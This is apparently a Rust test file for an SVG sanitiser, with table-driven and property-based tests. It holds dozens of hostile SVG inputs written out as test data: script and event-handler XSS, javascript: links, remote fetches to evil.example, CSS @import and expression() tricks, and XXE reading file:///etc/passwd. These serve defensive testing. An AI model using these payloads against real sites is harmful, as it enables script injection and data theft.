//! Hostile and harmless images.

use super::allowed::{ATTRIBUTES, ELEMENTS, PROPERTIES};
use super::sanitize;
use proptest::prelude::*;
use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event};

/// What an image is sanitised to.
fn clean(svg: &str) -> String {
    String::from_utf8(sanitize(svg.as_bytes()).unwrap_or_else(|reason| panic!("{reason}: {svg}"))).expect("UTF-8")
}

/// What stands inside the root of an image after it was sanitised.
fn inside(content: &str) -> String {
    let all = clean(&format!("<svg xmlns='http://www.w3.org/2000/svg'>{content}</svg>"));
    all.strip_prefix("<svg xmlns='http://www.w3.org/2000/svg'>").and_then(|rest| rest.strip_suffix("</svg>")).expect(&all).to_owned()
}

/// Reads an image with a reader of its own, and finds nothing in it that is not known to be harmless.
fn assert_harmless(svg: &str) {
    let mut reader = Reader::from_str(svg);
    loop {
        match reader.read_event().unwrap_or_else(|e| panic!("{e}: {svg}")) {
            Event::Start(tag) | Event::Empty(tag) => assert_harmless_tag(&tag, svg),
            Event::Eof => break,
            Event::End(_) | Event::Text(_) | Event::GeneralRef(_) | Event::Decl(_) => {}
            other => panic!("{other:?} in {svg}"),
        }
    }
    assert_eq!(clean(svg), svg, "sanitising twice changes nothing");
}

fn assert_harmless_tag(tag: &BytesStart<'_>, svg: &str) {
    assert!(ELEMENTS.contains(tag.name().0), "{svg}");
    for attribute in tag.attributes() {
        let attribute = attribute.expect("an attribute");
        let name = attribute.key.0;
        let value = quick_xml::escape::unescape(&attribute.value).expect("a value").to_ascii_lowercase();
        let known = ["xmlns", "xmlns:xlink", "href", "xlink:href", "style"].contains(&name);
        assert!(known || ATTRIBUTES.contains(name) || PROPERTIES.contains(name), "{name} in {svg}");
        if name.ends_with("href") {
            assert!(value.trim_ascii().starts_with('#') || value.trim_ascii().starts_with("data:image/"), "{value} in {svg}");
            assert!(!value.contains("svg+xml"), "{svg}");
        }
        for (at, _) in value.match_indices("url(") {
            let target = value[at + 4..].trim_ascii_start().trim_start_matches(['"', '\'']);
            assert!(target.starts_with('#'), "{value} in {svg}");
        }
    }
}

#[test]
fn what_draws_nothing_or_more_than_a_picture_is_left_out() {
    for gone in [
        "<script>alert(1)</script>",
        "<script href='data:,alert(1)'/>",
        "<script xlink:href='https://evil.example/x.js'></script>",
        "<script><![CDATA[alert(1)]]></script>",
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
        "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
        "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
        "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
        "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
        "<animate attributeName='href' values='javascript:alert(1)'/>",
        "<set attributeName='onmouseover' to='alert(1)'/>",
        "<animateTransform onbegin='alert(1)'/>",
        "<handler type='text/javascript'>alert(1)</handler>",
        "<listener event='load' handler='#x'/>",
        "<discard onbegin='alert(1)'/>",
        "<feImage href='https://evil.example/x.svg#a'/>",
        "<image-set/>",
        "<video src='https://evil.example/' onerror='alert(1)'/>",
        "<iframe src='https://evil.example/'/>",
        "<embed src='https://evil.example/'/>",
        "<object data='data:text/html,x'/>",
        "<metadata><script>alert(1)</script></metadata>",
        "<cursor href='https://evil.example/c.png'/>",
        "<font-face-uri href='https://evil.example/f.svg#f'/>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
        "<style>rect{fill:url(https://evil.example/x.svg#a)}</style>",
        "<style>rect{fill:u\\72l(https://evil.example/)}</style>",
        "<style>rect{background:image-set('https://evil.example/a.png' 1x)}</style>",
        "<style>rect{width:expression(alert(1))}</style>",
        "<style>rect{fill:url/**/(x)}</style>",
        "<style><![CDATA[@import url(//evil.example)]]></style>",
        "<style>@imp&#x6f;rt 'x';</style>",
        "<!-- <script>alert(1)</script> -->",
        "<?xml-stylesheet href='https://evil.example/x.css'?>",
        "<?php echo 1 ?>",
    ] {
        assert_eq!(inside(gone), "", "{gone}");
        assert_eq!(inside(&format!("<g>{gone}</g>")), "<g></g>", "{gone}");
    }
}

#[test]
fn attributes_that_run_or_fetch_are_left_out() {
    for (given, kept) in [
        ("<rect onclick='alert(1)' width='9'/>", "<rect width='9'/>"),
        ("<rect ONLOAD='alert(1)'/>", "<rect/>"),
        ("<g onload=\"alert(1)\" onmouseover=\"x\" id=\"a\"></g>", "<g id=\"a\"></g>"),
        ("<use href='https://evil.example/x.svg#a'/>", "<use/>"),
        ("<use xlink:href='data:image/svg+xml;base64,AAAA#a'/>", "<use/>"),
        ("<use href='javascript:alert(1)'/>", "<use/>"),
        ("<use href='#a'/>", "<use href='#a'/>"),
        ("<image href='https://evil.example/pixel.png'/>", "<image/>"),
        ("<image href='//evil.example/pixel.png'/>", "<image/>"),
        ("<image href='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'/>", "<image/>"),
        ("<image href='data:text/html;base64,AAAA'/>", "<image/>"),
        ("<image href='&#106;avascript:alert(1)'/>", "<image/>"),
        ("<image href='data:image/png;base64,iVBORw0KGgo='/>", "<image href='data:image/png;base64,iVBORw0KGgo='/>"),
        ("<rect fill='url(https://evil.example/#a)'/>", "<rect/>"),
        ("<rect fill='URL( &quot;//evil.example/&quot; )'/>", "<rect/>"),
        ("<rect fill='u\\72l(//evil.example/)'/>", "<rect/>"),
        ("<rect fill='url(#a) url(https://evil.example/)'/>", "<rect/>"),
        ("<rect fill='url(#a)'/>", "<rect fill='url(#a)'/>"),
        ("<rect fill='url(&#39;#a&#39;)'/>", "<rect fill='url(&#39;#a&#39;)'/>"),
        ("<rect filter='url(x.svg#f)' mask=\"url('javascript:alert(1)')\"/>", "<rect/>"),
        ("<rect style='fill:red;background:url(https://evil.example/)'/>", "<rect/>"),
        ("<rect style='fill:red;-moz-binding:url(//evil.example)'/>", "<rect/>"),
        ("<rect style='fill:url(#a); stroke-width:2px'/>", "<rect style='fill:url(#a); stroke-width:2px'/>"),
        ("<rect style='behavior:url(#default#x)'/>", "<rect/>"),
        ("<rect style='fill:expression(alert(1))'/>", "<rect/>"),
        ("<g xml:base='https://evil.example/'></g>", "<g></g>"),
        ("<g xmlns='http://www.w3.org/1999/xhtml'></g>", "<g></g>"),
        ("<g xmlns:x='http://www.w3.org/1999/xlink' x:href='javascript:alert(1)'></g>", "<g></g>"),
        ("<text href='#a' requiredExtensions='x'>a&lt;b</text>", "<text>a&lt;b</text>"),
        ("<title><style><img src='x' onerror='alert(1)'/></style></title>", "<title></title>"),
        ("<desc>&lt;/desc&gt;&lt;script&gt;</desc>", "<desc>&lt;/desc&gt;&lt;script&gt;</desc>"),
        ("<text><![CDATA[<script>alert(1)</script>]]></text>", "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"),
    ] {
        assert_eq!(inside(given), kept, "{given}");
    }
}

#[test]
fn what_is_no_image_is_refused() {
    for svg in [
        "",
        "text",
        "<html><body/></html>",
        "<script>alert(1)</script>",
        "<svg/><svg/>",
        "<svg/><script>alert(1)</script>",
        "<svg/>alert(1)",
        "<svg>",
        "<svg></g></svg>",
        "<svg/onload=alert(1)>",
        "<svg onload=alert(1)></svg>",
        "<svg><g a='1'b='2'/></svg>",
        "<svg><g id='1' id='2'/></svg>",
        "<svg><g id='<script>'/></svg>",
        "<svg><g disabled></g></svg>",
        "<svg>&evil;</svg>",
        "<svg id='&evil;'/>",
        "<svg>&#0;</svg>",
        "<svg>&#xFFFE;</svg>",
        "<svg>\u{1}</svg>",
        "<svg>a & b</svg>",
        "<svg:svg xmlns:svg='http://www.w3.org/2000/svg'/>",
        "<?xml version='1.0' encoding='UTF-7'?><svg/>",
        "<?xml version='1.1'?><svg/>",
        "<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]><svg>&x;</svg>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
        "<!DOCTYPE svg [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><svg id='&b;'/>",
    ] {
        assert!(sanitize(svg.as_bytes()).is_err(), "{svg}: {:?}", sanitize(svg.as_bytes()).map(String::from_utf8));
    }
    assert!(sanitize(b"<svg>\xff</svg>").is_err() && sanitize(b"\x89PNG\r\n\x1a\n").is_err());
    let deep = format!("<svg>{}{}</svg>", "<g>".repeat(300), "</g>".repeat(300));
    assert!(sanitize(deep.as_bytes()).is_err());
}

#[test]
fn documents_lose_their_types_and_entities() {
    let given = "\u{feff}<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/svg11.dtd\" [<!ENTITY a 'b'>]>\n<svg/>\n";
    assert_eq!(clean(given), "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n\n<svg/>\n");
}

#[test]
fn an_ordinary_image_keeps_its_bytes() {
    for svg in [
        "<svg width=\"20000\" height=\"400\" viewBox=\"0 0 20000 400\" fill=\"none\" xmlns=\"http://www.w3.org/2000/svg\">\n<g clip-path=\"url(#clip0)\">\n\
         <path d=\"M0 0H20000V400H0V0Z\" fill=\"#122037\" fill-opacity=\"0.5\"/>\n</g>\n<defs>\n<linearGradient id=\"paint0\" x1=\"894.249\" \
         gradientUnits=\"userSpaceOnUse\">\n<stop stop-color=\"#BF80FF\"/>\n<stop offset=\"1\" stop-color=\"#FF8FAB\" />\n</linearGradient>\n\
         <clipPath id=\"clip0\">\n<rect width=\"20000\" height=\"400\" fill=\"white\"/>\n</clipPath>\n</defs>\n</svg>\n",
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
         xmlns:xlink=\"http://www.w3.org/1999/xlink\" version=\"1.1\">\n\t<style type=\"text/css\">\n\t.a{fill:url(#b);}\n\t.c{opacity:.5}\n\t</style>\n\
         \t<use xlink:href=\"#b\" transform=\"translate(3, 4) rotate(-45)\"/>\n\t<text x=\"1\" style=\"font-family:'Open Sans';font-size:12px\">\
         \u{dc}ber &amp; &#x1F600;</text></svg>",
    ] {
        assert_eq!(clean(svg), svg);
        assert_harmless(svg);
    }
}

/// Pieces that tags, attributes and text are made of, whole and broken.
fn piece() -> impl Strategy<Value = String> {
    let whole = [
        "<g>",
        "</g>",
        "<svg>",
        "</svg>",
        "<svg/>",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<title>",
        "</title>",
        "<foreignObject>",
        "</foreignObject>",
        "<use href='#a'/>",
        "<use href='https://evil.example/#a'/>",
        "<image href='data:image/svg+xml,x'/>",
        "<rect onclick='alert(1)' fill='url(#a)'/>",
        "<rect style=\"fill:url(//evil.example)\"/>",
        "@import 'x';",
        "a{fill:url(x)}",
        "url(",
        "<!-- x",
        "-->",
        "<!--",
        "<![CDATA[",
        "]]>",
        "<?x",
        "?>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [",
        "]>",
        "<!ENTITY a 'b'>",
        "&a;",
        "&lt;script&gt;",
        "&#60;",
        "&amp;",
        "<",
        ">",
        "\"",
        "'",
        "=",
        "/",
        " ",
        "\n",
        "\u{0}",
        "\u{feff}",
        "<g ",
        " id='a'",
        " xmlns='x'",
        " onload=alert(1) ",
        "javascript:alert(1)",
        "\\75rl(",
        "/*",
        "*/",
        "\u{e9}",
    ];
    prop_oneof![8 => (0..whole.len()).prop_map(move |n| whole[n].to_owned()), 1 => "\\PC{0,6}"]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_taken_is_harmless(pieces in prop::collection::vec(piece(), 0..24), wrapped in any::<bool>()) {
        let content = pieces.concat();
        let svg = if wrapped { format!("<svg xmlns='http://www.w3.org/2000/svg'>{content}</svg>") } else { content };
        if let Ok(bytes) = sanitize(svg.as_bytes()) {
            assert_harmless(&String::from_utf8(bytes).expect("UTF-8"));
        }
    }

    #[test]
    fn no_bytes_break_the_reader(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let _ = sanitize(&bytes);
    }
}
